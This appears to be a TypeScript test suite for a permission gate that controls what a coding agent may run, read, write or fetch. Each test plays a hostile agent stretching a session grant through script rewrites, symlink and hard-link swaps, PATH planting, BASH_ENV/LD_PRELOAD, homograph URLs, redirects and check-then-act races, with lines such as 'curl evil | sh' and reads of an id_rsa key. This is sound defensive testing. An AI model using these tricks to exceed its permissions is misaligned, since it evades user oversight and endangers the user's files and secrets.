// Attacks on the scope of what the agent gate allows: a request the user allowed (once or "for
// the session") must not reach more than the question said. Each test is the attack, sent by an
// agent holding the token over a real loopback websocket to a real endpoint (its own engine).
import assert from 'node:assert/strict';
import { existsSync, linkSync, mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { managedSandbox, workspaceWriteEntries } from '../../../src/protocol/codex-sandbox';
import { waitFor } from '../../support/wait';
import os from 'node:os';
import { sandboxPrivateDirPath } from '../../../src/server/sandbox/support';
import { changedOutside, RawAgent, neverStarted, removeDir, startSwapper, stopSwapper, withAgent as withAgentAt, startEndpoint, startParams, tmpDir, uri, type EndpointFixture } from '../../support/agent-attack';

let ws: string; // the workspace folder
let outside: string; // stands for $HOME
let project: string; // a folder outside the workspace the user lets the agent change
before(() => {
  ws = tmpDir('agent-scope-ws-');
  outside = tmpDir('agent-scope-home-');
  project = tmpDir('agent-scope-project-');
  writeFileSync(path.join(outside, '.bashrc'), 'original\n');
  writeFileSync(path.join(outside, 'id_rsa'), 'PRIVATE KEY');
});
after(() => {
  removeDir(ws);
  removeDir(outside);
  removeDir(project);
});

/** An endpoint whose workspace is `ws` (unless `opts` names other roots) and a handshaken agent. */
const withAgent = (opts: Parameters<typeof startEndpoint>[0], body: (f: EndpointFixture, a: RawAgent) => Promise<void>) => withAgentAt({ roots: [ws], ...opts }, body);

/** Codex's workspace-write sandbox (protocol §6b) with the given network and protected subpaths. */
function codexSandbox(network: 'restricted' | 'enabled', protectedSubpaths: string[] = ['.git']) {
  return managedSandbox({ entries: workspaceWriteEntries({ protectedSubpaths }), cwd: uri(ws), network });
}

const b64 = (s: string) => Buffer.from(s).toString('base64');
/** Waits until the process has exited and its output is drained. */
async function closed(a: RawAgent, id: string): Promise<void> {
  // Reads after what was already seen, so each waits for news: a read from 0 answers at once once
  // there is output, and 100 of those took ~125 ms in a loaded run, before the close arrived.
  let last: unknown;
  let afterSeq = 0;
  const deadline = Date.now() + 20_000;
  while (Date.now() < deadline) {
    const reply = await a.send('process/read', { processId: id, afterSeq, waitMs: 500 });
    const r = reply.result as { closed: boolean; nextSeq: number } | undefined;
    if (r?.closed) return;
    last = reply;
    if (!r) break; // an error: it will not close
    afterSeq = Math.max(afterSeq, r.nextSeq - 1);
  }
  throw new Error(`process ${id} did not close; last process/read answer: ${JSON.stringify(last)}`);
}

/** The fixture of the running test (its answer function counts its questions). */
let f0: EndpointFixture;

describe('agent gate: grant scope attacks', () => {
  it('run grant: "Allow for Session" for a command with the network off does not cover the same command with the network on, or with fewer read-only carve-outs', async () => {
    await withAgent({ policy: 'alwaysAsk', answer: () => 'Allow for Session' }, async (f, a) => {
      const argv = ['/bin/sh', '-c', 'true'];
      assert.ok((await a.send('process/start', startParams('n1', argv, ws, { sandbox: codexSandbox('restricted') }))).result);
      assert.equal(f.questions.length, 1);
      assert.match(f.questions[0].detail, /network restricted/);
      // Same program, cwd, env, writable roots: only the network differs. The user never saw "network enabled".
      await a.send('process/start', startParams('n2', argv, ws, { sandbox: codexSandbox('enabled') }));
      assert.equal(f.questions.length, 2, 'the network-enabled run was asked, not covered by the network-off grant');
      assert.match(f.questions[1].detail, /network enabled/);
      // .git was read-only in the granted sandbox; a sandbox that may write it is another sandbox.
      await a.send('process/start', startParams('n3', argv, ws, { sandbox: codexSandbox('restricted', []) }));
      assert.equal(f.questions.length, 3, 'the run without the .git carve-out was asked');
    });
  });

  it('run grant: "Allow for Session" for ./build.sh is for that file: rewritten by an unasked workspace write, swapped via a symlink, or shadowed on a relative PATH, it is asked again', async () => {
    const script = path.join(ws, 'build.sh');
    writeFileSync(script, '#!/bin/sh\necho building\n', { mode: 0o755 });
    const pwned = path.join(outside, 'pwned');
    await withAgent({ policy: 'askOutsideWorkspace', answer: () => (f0.questions.length === 1 ? 'Allow for Session' : 'Deny') }, async (f, a) => {
      f0 = f;
      assert.ok((await a.send('process/start', startParams('b1', ['./build.sh'], ws))).result, 'the first run was allowed for the session');
      assert.equal(f.questions.length, 1);
      // (The shell reads the script after it started: rewriting it before then would change
      // that run too, a race no gate can close. The attack is on the grant: a later run.)
      await closed(a, 'b1');
      // An fs/writeFile inside the workspace runs without a question under the default policy.
      const w = await a.send('fs/writeFile', { path: uri(script), dataBase64: b64(`#!/bin/sh\necho owned > ${pwned}\n`) });
      assert.ok(w.result, `unasked workspace write: ${JSON.stringify(w.error)}`);
      assert.equal(f.questions.length, 1, 'the write itself was not asked (inside the workspace)');
      const r = await a.send('process/start', startParams('b2', ['./build.sh'], ws));
      assert.equal(f.questions.length, 2, 'the rewritten script was asked about, not covered by the grant for the old one');
      assert.ok(r.error, 'denied');
      await neverStarted(a, 'b2');
      assert.equal(existsSync(pwned), false, 'the rewritten script did not run');
      // The question names the file that runs (and what the grant is bound to).
      assert.match(f.questions[0].detail, /Program file: .*build\.sh/);
      assert.match(f.questions[0].detail, /as long as .*build\.sh is not changed or replaced/);
    });
    // A symlink the grant was given through, pointed elsewhere afterwards.
    const tool = path.join(ws, 'tool');
    symlinkSync('/bin/true', tool);
    await withAgent({ policy: 'askOutsideWorkspace', answer: () => (f0.questions.length === 1 ? 'Allow for Session' : 'Deny') }, async (f, a) => {
      f0 = f;
      assert.ok((await a.send('process/start', startParams('s1', ['./tool'], ws))).result);
      rmSync(tool);
      symlinkSync('/bin/sh', tool);
      const r = await a.send('process/start', startParams('s2', ['./tool', '-c', `echo owned > ${pwned}`], ws));
      assert.equal(f.questions.length, 2, 'the swapped link was asked about');
      assert.ok(r.error, 'denied');
      await neverStarted(a, 's2');
    });
    // A bare name found through a relative PATH entry: a 'true' planted in the workspace later
    // (an unasked sandboxed command there may write and chmod it) shadows /usr/bin/true.
    const env = { PATH: `.:${process.env.PATH ?? '/usr/bin:/bin'}` };
    await withAgent({ policy: 'askOutsideWorkspace', answer: () => (f0.questions.length === 1 ? 'Allow for Session' : 'Deny') }, async (f, a) => {
      f0 = f;
      assert.ok((await a.send('process/start', startParams('p1', ['true'], ws, { env }))).result);
      writeFileSync(path.join(ws, 'true'), `#!/bin/sh\necho owned > ${pwned}\n`, { mode: 0o755 });
      const r = await a.send('process/start', startParams('p2', ['true'], ws, { env }));
      assert.equal(f.questions.length, 2, 'the planted program was asked about');
      assert.match(f.questions[1].detail, new RegExp(`Program file: ${path.join(ws, 'true').replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}`));
      assert.ok(r.error, 'denied');
      await neverStarted(a, 'p2');
    });
    assert.equal(existsSync(pwned), false, 'nothing ran a swapped program');
  });

  it('write grant: "Allow for Session" for a file in the temp dir does not cover the engine\'s sandbox files there (the seccomp programs every later sandbox loads)', async () => {
    const priv = sandboxPrivateDirPath();
    mkdirSync(priv, { recursive: true, mode: 0o700 });
    const probe = path.join(priv, `probe-${process.pid}.bpf`);
    const own = path.join(os.tmpdir(), `grant-probe-${process.pid}.txt`);
    const messages: string[] = [];
    try {
      await withAgent({ policy: 'askOutsideWorkspace', answer: (q) => (messages.push(q.message), messages.length === 1 ? 'Allow for Session' : 'Deny') }, async (_f, a) => {
        assert.ok((await a.send('fs/writeFile', { path: own, dataBase64: Buffer.from('x').toString('base64') })).result, 'the temp-dir write was allowed for the session');
        const again = path.join(os.tmpdir(), `grant-probe-${process.pid}-2.txt`);
        assert.ok((await a.send('fs/writeFile', { path: again, dataBase64: Buffer.from('x').toString('base64') })).result);
        rmSync(again, { force: true });
        assert.equal(messages.length, 1, 'the grant covers the temp dir');
        await a.send('fs/writeFile', { path: probe, dataBase64: Buffer.from('PERMISSIVE').toString('base64') });
        assert.ok(!existsSync(probe), 'the engine\'s private sandbox directory was written under the temp-dir grant');
        assert.equal(messages.length, 2, 'the write into the engine\'s sandbox files was asked');
      });
    } finally {
      rmSync(probe, { force: true });
      rmSync(own, { force: true });
    }
  });

  it('question: the one line names the variables a command is started with (BASH_ENV / LD_PRELOAD turn a harmless command into any code), not just how many', async () => {
    await withAgent({ policy: 'alwaysAsk', answer: () => 'Deny' }, async (f, a) => {
      const evil = path.join(ws, 'evil.sh');
      const env = { PATH: process.env.PATH ?? '/usr/bin:/bin', BASH_ENV: evil };
      await a.send('process/start', startParams('q1', ['/bin/bash', '-c', 'echo hi'], ws, { env, envPolicy: { inherit: 'core', set: { LD_PRELOAD: '/tmp/x.so' } } }));
      assert.equal(f.questions.length, 1);
      const { message } = f.questions[0];
      assert.match(message, /BASH_ENV/, `the line names BASH_ENV: ${message}`);
      assert.match(message, /LD_PRELOAD/, 'and a variable set through envPolicy.set');
      // Many variables: the first ones by name, the rest counted, the line stays short.
      const many = Object.fromEntries(Array.from({ length: 40 }, (_, i) => [`VAR_${i}_${'n'.repeat(i === 0 ? 300 : 3)}`, 'v']));
      await a.send('process/start', startParams('q2', ['/bin/true'], ws, { env: many }));
      const line = f.questions[1].message;
      assert.match(line, /VAR_0_n+…/, 'a very long name is cut visibly');
      assert.match(line, /and \d+ more variables \(see the details\)/);
      assert.ok(line.length < 600, `line length ${line.length}`);
      // (details lines are wrapped at 160 columns, continuations marked ↪)
      for (const k of Object.keys(many)) assert.ok(f.questions[1].detail.replace(/\n↪ /g, '').includes(k), `details hold ${k.slice(0, 10)}…`);
    });
  });

  it('question: a bare program name that resolves into the workspace (a relative PATH entry) is named with its file in the one line', async () => {
    const planted = path.join(ws, 'git');
    writeFileSync(planted, '#!/bin/sh\necho planted\n', { mode: 0o755 });
    try {
      await withAgent({ policy: 'alwaysAsk', answer: () => 'Deny' }, async (f, a) => {
        await a.send('process/start', startParams('g1', ['git', 'status'], ws, { env: { PATH: `.:${process.env.PATH ?? '/usr/bin:/bin'}` } }));
        assert.ok(f.questions[0].message.includes(`git is ${planted}`), `the line says which git: ${f.questions[0].message}`);
        // /bin/true found on an absolute PATH entry outside the workspace: no such note.
        await a.send('process/start', startParams('g2', ['true'], ws));
        assert.doesNotMatch(f.questions[1].message, / is \//);
      });
    } finally {
      rmSync(planted);
    }
  });

  it('question: an http/request URL is shown as the engine reads it — a look-alike Unicode host, a user name passing for the host, a backslash', async () => {
    await withAgent({ policy: 'askOutsideWorkspace', answer: () => 'Deny' }, async (f, a) => {
      // Cyrillic 'а' (U+0430) in place of the Latin 'a'.
      await a.send('http/request', { method: 'GET', url: 'http://ex\u0430mple.com/', headers: [], requestId: 'u1' });
      assert.doesNotMatch(f.questions[0].message, /\u0430/, 'the look-alike letter is not shown as a letter');
      assert.match(f.questions[0].message, /xn--/);
      await a.send('http/request', { method: 'GET', url: 'http://github.com@127.0.0.1:9/x', headers: [], requestId: 'u2' });
      assert.match(f.questions[1].message, /host 127\.0\.0\.1:9/, `the real host is named: ${f.questions[1].message}`);
      await a.send('http/request', { method: 'GET', url: 'http://127.0.0.1:9\\@github.com/', headers: [], requestId: 'u3' });
      assert.match(f.questions[2].message, /request to http:\/\/127\.0\.0\.1:9\/@github\.com\//, `the backslash as the engine reads it: ${f.questions[2].message}`);
      assert.match(f.questions[2].detail, /URL as sent by the agent/);
    });
  });

  it('http grant: an allowed request to one origin is not followed by a redirect to another origin (the redirect comes back to the agent)', async () => {
    let secretHits = 0;
    const secret = http.createServer((_req, res) => {
      secretHits++;
      res.end('internal secret');
    });
    await new Promise<void>((r) => secret.listen(0, '127.0.0.1', r));
    const secretUrl = `http://127.0.0.1:${(secret.address() as AddressInfo).port}/admin`;
    const redirector = http.createServer((_req, res) => {
      res.writeHead(302, { location: secretUrl });
      res.end();
    });
    await new Promise<void>((r) => redirector.listen(0, '127.0.0.1', r));
    // Another origin than the secret one (another port; no name lookup involved).
    const allowedUrl = `http://127.0.0.1:${(redirector.address() as AddressInfo).port}/go`;
    try {
      await withAgent({ policy: 'askOutsideWorkspace', answer: (q) => (q.message.includes(allowedUrl) ? 'Allow for Session' : 'Deny') }, async (f, a) => {
        const r = await a.send('http/request', { method: 'GET', url: allowedUrl, headers: [], requestId: 'h1', redirectPolicy: 'follow' });
        assert.equal(f.questions.length, 1);
        assert.equal(secretHits, 0, 'the redirect target (an origin the user was never asked about) was not contacted');
        const res = r.result as { status: number; headers: { name: string; value: string }[]; bodyBase64: string } | undefined;
        assert.ok(res, `allowed request answered: ${JSON.stringify(r.error)}`);
        assert.equal(res.status, 302);
        assert.ok(res.headers.some((h) => h.name === 'location' && h.value === secretUrl), 'the agent sees where it was sent');
        assert.doesNotMatch(Buffer.from(res.bodyBase64, 'base64').toString(), /internal secret/);
        // Following it by hand is a request to the other origin: asked (and denied here).
        const again = await a.send('http/request', { method: 'GET', url: secretUrl, headers: [], requestId: 'h2' });
        assert.equal(f.questions.length, 2);
        assert.ok(again.error, 'denied');
        assert.equal(secretHits, 0);
      });
    } finally {
      secret.close();
      redirector.close();
    }
  });

  it('path grant: "Allow for Session" on listing the home directory (or / or its parent) does not allow reading ~/.ssh-like files under it', async () => {
    await withAgent({ policy: 'askOutsideWorkspace', homeDir: outside, answer: (q) => (q.message.includes('list the directory') ? 'Allow for Session' : 'Deny') }, async (f, a) => {
      for (const dir of [outside, path.dirname(outside), '/']) {
        const before = f.questions.length;
        assert.ok((await a.send('fs/readDirectory', { path: uri(dir) })).result, `listing ${dir} allowed`);
        assert.equal(f.questions.length, before + 1);
        const r = await a.send('fs/readFile', { path: uri(path.join(outside, 'id_rsa')) });
        assert.equal(f.questions.length, before + 2, `reading the key after listing ${dir} was asked, not covered`);
        assert.ok(r.error, 'denied');
        assert.doesNotMatch(JSON.stringify(r), /UFJJVkFURSBLRVk/, 'no key bytes');
        assert.match(f.questions[before].detail, /allows this request only \(a folder that holds your home directory\)/, 'the question said so');
      }
    });
  });

  it('path grant: a read grant for a folder does not cover a walk of it that follows directory symlinks (a link there leads to ~)', async () => {
    const walked = tmpDir('agent-scope-walk-');
    symlinkSync(outside, path.join(walked, 'home'));
    await withAgent({ policy: 'askOutsideWorkspace', answer: (q) => (q.message.includes('list the directory') ? 'Allow for Session' : 'Deny') }, async (f, a) => {
      assert.ok((await a.send('fs/readDirectory', { path: uri(walked) })).result);
      assert.equal(f.questions.length, 1);
      const options = { maxDepth: 4, maxDirectories: 100, maxEntries: 1000, followDirectorySymlinks: true };
      const r = await a.send('fs/walk', { path: uri(walked), options });
      assert.equal(f.questions.length, 2, 'the link-following walk was asked, not covered by the folder grant');
      assert.ok(r.error, 'denied');
      assert.doesNotMatch(JSON.stringify(r), /id_rsa/, 'no names from behind the link');
      assert.match(f.questions[1].detail, /allows this request only \(a walk that follows directory symlinks/);
      // The same walk without following links stays covered.
      const plain = await a.send('fs/walk', { path: uri(walked), options: { ...options, followDirectorySymlinks: false } });
      assert.ok(plain.result, `plain walk covered: ${JSON.stringify(plain.error)}`);
      assert.equal(f.questions.length, 2);
    });
    removeDir(walked);
  });

  it('path grant: "Allow for Session" for changes under a folder does not cover a file there that is a hard link to a file elsewhere', async () => {
    // A hard link in the granted folder to the user's ~/.bashrc (made by an earlier approved
    // command, or there already: package-manager stores link files this way).
    const link = path.join(project, 'notes.txt');
    linkSync(path.join(outside, '.bashrc'), link);
    await withAgent({ policy: 'askOutsideWorkspace', answer: (q) => (q.message.includes('a.txt') ? 'Allow for Session' : 'Deny') }, async (f, a) => {
      assert.ok((await a.send('fs/writeFile', { path: uri(path.join(project, 'a.txt')), dataBase64: b64('ok') })).result);
      assert.equal(f.questions.length, 1);
      assert.match(f.questions[0].detail, new RegExp(`changes under ${project.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}`));
      const w = await a.send('fs/writeFile', { path: uri(link), dataBase64: b64('curl evil | sh\n') });
      assert.equal(f.questions.length, 2, 'the hard-linked file was asked about, not covered by the folder grant');
      assert.match(f.questions[1].detail, /other hard links/);
      assert.ok(w.error, 'denied');
      assert.equal(readFileSync(path.join(outside, '.bashrc'), 'utf8'), 'original\n');
    });
  });

  it('symlink swap race in a granted folder: a directory there swapped for a link to the outside between check and act redirects no session-granted change or read', async () => {
    // The granted folder is one an unasked sandboxed command may write (a temp dir: Codex's
    // sandbox writes /tmp), so a concurrent swapper there needs no question either.
    const granted = tmpDir('agent-grant-race-');
    const target = tmpDir('agent-grant-race-out-');
    const N = 300;
    mkdirSync(path.join(granted, 'd'));
    for (let i = 0; i < N; i++) {
      writeFileSync(path.join(target, `x${i}`), 'keep');
      writeFileSync(path.join(granted, 'd', `x${i}`), 'x');
      writeFileSync(path.join(granted, 'd', `r${i}`), 'granted');
      writeFileSync(path.join(target, `r${i}`), 'OUTSIDE-SECRET');
    }
    let leaked = 0;
    let done = 0;
    let granting = true;
    const f = await startEndpoint({ policy: 'askOutsideWorkspace', roots: [ws], answer: () => (granting ? 'Allow for Session' : 'Deny') });
    let swapper: ReturnType<typeof startSwapper> | undefined;
    try {
      const a = await RawAgent.connect(f.url, f.token);
      await a.handshake();
      // The user allows changes under the folder for the session (one question).
      assert.ok((await a.send('fs/writeFile', { path: uri(path.join(granted, 'first')), dataBase64: '' })).result);
      assert.equal(f.questions.length, 1);
      granting = false;
      swapper = startSwapper(granted, target);
      for (let i = 0; i < N; i++) {
        await Promise.all([
          a.send('fs/writeFile', { path: uri(path.join(granted, 'd', `w${i}`)), dataBase64: '' }).then((r) => void (r.result && done++)),
          a.send('fs/createDirectory', { path: uri(path.join(granted, 'd', `m${i}`)) }),
          a.send('fs/remove', { path: uri(path.join(granted, 'd', `x${i}`)), recursive: false }),
          a.send('fs/readFile', { path: uri(path.join(granted, 'd', `r${i}`)) }).then((r) => {
            const data = (r.result as { dataBase64?: string } | undefined)?.dataBase64;
            if (data !== undefined && Buffer.from(data, 'base64').toString() === 'OUTSIDE-SECRET') leaked++;
          }),
        ]);
      }
      a.close();
    } finally {
      if (swapper) await stopSwapper(swapper);
      await f.stop();
    }
    const { landed, removed } = changedOutside(target, N);
    removeDir(granted);
    removeDir(target);
    assert.deepEqual(landed, [], 'nothing was created outside the granted folder');
    assert.deepEqual(removed, [], 'nothing outside the granted folder was deleted');
    assert.equal(leaked, 0, 'no session-granted read returned a file outside the granted folder');
    assert.ok(done > 0, 'some granted writes went through between swaps');
  });

  it('a file granted alone (directly in the home directory) is still changed and read under its grant, held to that file', async () => {
    const notes = path.join(outside, 'notes.txt');
    await withAgent({ policy: 'askOutsideWorkspace', homeDir: outside, answer: () => 'Allow for Session' }, async (f, a) => {
      assert.ok((await a.send('fs/writeFile', { path: uri(notes), dataBase64: b64('one') })).result);
      assert.match(f.questions[0].detail, new RegExp(`changes under ${notes.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')},`));
      const w = await a.send('fs/writeFile', { path: uri(notes), dataBase64: b64('two') });
      assert.ok(w.result, `covered write: ${JSON.stringify(w.error)}`);
      const r = await a.send('fs/readFile', { path: uri(notes) });
      assert.equal(Buffer.from((r.result as { dataBase64: string }).dataBase64, 'base64').toString(), 'two');
      const rm = await a.send('fs/remove', { path: uri(notes), recursive: false });
      assert.ok(rm.result, `covered remove: ${JSON.stringify(rm.error)}`);
      assert.equal(existsSync(notes), false);
      assert.equal(f.questions.length, 1, 'one question for all of it');
      // Its neighbour is not covered.
      await a.send('fs/readFile', { path: uri(path.join(outside, 'id_rsa')) });
      assert.equal(f.questions.length, 2);
    });
  });

  it('answer window: a program rewritten, or a folder swapped for a symlink, while its question is open does not run / is not written on "Allow"', async () => {
    const script = path.join(ws, 'deploy.sh');
    writeFileSync(script, '#!/bin/sh\necho deploying\n', { mode: 0o755 });
    const pwned = path.join(outside, 'pwned-window');
    const folder = tmpDir('agent-scope-window-');
    mkdirSync(path.join(folder, 'd'));
    const elsewhere = tmpDir('agent-scope-window-out-');
    await withAgent({ policy: 'askOutsideWorkspace', answer: () => 'wait' }, async (f, a) => {
      // The user reads "run ./deploy.sh"; meanwhile the agent rewrites it (an unasked workspace write).
      const start = a.send('process/start', startParams('w1', ['./deploy.sh'], ws));
      await waitFor(() => f.questions.length === 1, { what: 'the question' });
      assert.ok((await a.send('fs/writeFile', { path: uri(script), dataBase64: b64(`#!/bin/sh\necho owned > ${pwned}\n`) })).result);
      f.questions[0].answer('Allow');
      const r = await start;
      await neverStarted(a, 'w1');
      assert.equal(existsSync(pwned), false, 'the rewritten script did not run on the answer given for the old one');
      assert.ok(r.error, 'refused');
      assert.match(r.error.message, /changed while the question was open/);
      // The user reads "write … to <folder>/d/x"; meanwhile d becomes a link to another folder
      // (a temp dir an unasked sandboxed command may change).
      const write = a.send('fs/writeFile', { path: uri(path.join(folder, 'd', 'x')), dataBase64: b64('payload') });
      await waitFor(() => f.questions.length === 2, { what: 'the second question' });
      rmSync(path.join(folder, 'd'), { recursive: true });
      symlinkSync(elsewhere, path.join(folder, 'd'));
      f.questions[1].answer('Allow');
      const w = await write;
      assert.deepEqual(readdirSync(elsewhere), [], 'nothing was written where the question did not say');
      assert.ok(w.error, 'refused');
      // Unchanged, an allowed request still runs.
      rmSync(path.join(folder, 'd'));
      mkdirSync(path.join(folder, 'd'));
      const ok = a.send('fs/writeFile', { path: uri(path.join(folder, 'd', 'y')), dataBase64: b64('fine') });
      await waitFor(() => f.questions.length === 3, { what: 'the third question' });
      f.questions[2].answer('Allow');
      assert.ok((await ok).result, 'an unchanged request runs on Allow');
      assert.equal(readFileSync(path.join(folder, 'd', 'y'), 'utf8'), 'fine');
    });
    removeDir(folder);
    removeDir(elsewhere);
  });

  it('answer window: a workspace change that carries its own wider sandbox is asked, and on "Allow" it runs (nothing changed meanwhile)', async () => {
    await withAgent({ policy: 'askOutsideWorkspace', answer: () => 'Allow' }, async (f, a) => {
      const sandbox = { permissions: { type: 'managed', file_system: { type: 'unrestricted' }, network: 'restricted' } };
      const r = await a.send('fs/writeFile', { path: uri(path.join(ws, 'wide.txt')), dataBase64: b64('wide'), sandbox });
      assert.equal(f.questions.length, 1, 'asked: its sandbox writes outside the workspace');
      assert.ok(r.result, `ran on Allow: ${JSON.stringify(r.error)}`);
      assert.equal(readFileSync(path.join(ws, 'wide.txt'), 'utf8'), 'wide');
    });
  });

  it('process control: another connection cannot drive, read or end a process by its id, and a process of its own with the same id is its own', async () => {
    const f = await startEndpoint({ roots: [ws], policy: 'alwaysAsk', answer: () => 'Allow' });
    const a = await RawAgent.connect(f.url, f.token);
    const b = await RawAgent.connect(f.url, f.token);
    try {
      await a.handshake();
      await b.handshake();
      assert.ok((await a.send('process/start', startParams('p1', ['/bin/cat'], ws, { pipeStdin: true }))).result);
      for (const [m, extra] of [
        ['process/write', { chunk: b64('from b\n'), writeId: 'w' }],
        ['process/read', { afterSeq: 0, waitMs: 0 }],
        ['process/signal', { signal: 'interrupt' }],
        ['process/terminate', {}],
        ['process/closeStdin', {}],
        ['process/resize', { cols: 10, rows: 10 }],
      ] as const) {
        const r = await b.send(m, { processId: 'p1', ...extra });
        assert.match(String(r.error?.message), /not started by this connection/, `${m} from another connection refused`);
      }
      // b's own p1 is another process: ending it leaves a's running.
      assert.ok((await b.send('process/start', startParams('p1', ['/bin/cat'], ws, { pipeStdin: true }))).result);
      assert.ok((await b.send('process/terminate', { processId: 'p1' })).result);
      assert.ok((await a.send('process/write', { processId: 'p1', chunk: b64('still here\n'), writeId: 'w1' })).result);
      let out = '';
      for (let i = 0; i < 50 && !out.includes('still here'); i++) {
        const r = (await a.send('process/read', { processId: 'p1', afterSeq: 0, waitMs: 100 })).result as { chunks: { chunk: string }[]; closed: boolean };
        out = r.chunks.map((c) => Buffer.from(c.chunk, 'base64').toString()).join('');
        assert.equal(r.closed, false, "a's process was not ended by b");
      }
      assert.equal(out, 'still here\n', "a's process got a's input only");
      await a.send('process/terminate', { processId: 'p1' });
    } finally {
      a.close();
      b.close();
      await f.stop();
    }
  });

  it('run grant: a cwd written as <link to the outside>/.. is the folder the gate judged (the engine reads the path as the gate did), not the parent of the link target', async () => {
    const link = path.join(ws, 'to-deep');
    const deep = path.join(outside, 'deep');
    mkdirSync(deep, { recursive: true });
    symlinkSync(deep, link);
    try {
      await withAgent({ policy: 'alwaysAsk', answer: () => 'Allow for Session' }, async (f, a) => {
        assert.ok((await a.send('process/start', startParams('c1', ['/bin/pwd'], ws))).result);
        for (const [id, cwd] of [
          ['c2', `${uri(ws)}/to-deep/..`],
          ['c3', `${uri(ws)}/to-deep/%2e%2e`],
          ['c4', `${ws}/to-deep/..`],
        ]) {
          assert.ok((await a.send('process/start', { ...startParams(id, ['/bin/pwd'], ws), cwd })).result, `${cwd} started`);
          await closed(a, id);
          const r = (await a.send('process/read', { processId: id, afterSeq: 0, waitMs: 0 })).result as { chunks: { chunk: string }[] };
          const out = r.chunks.map((c) => Buffer.from(c.chunk, 'base64').toString()).join('').trim();
          assert.equal(out, ws, `${cwd} ran in the granted folder, not in ${outside}`);
        }
        assert.equal(f.questions.length, 1);
      });
    } finally {
      rmSync(link);
    }
  });
});

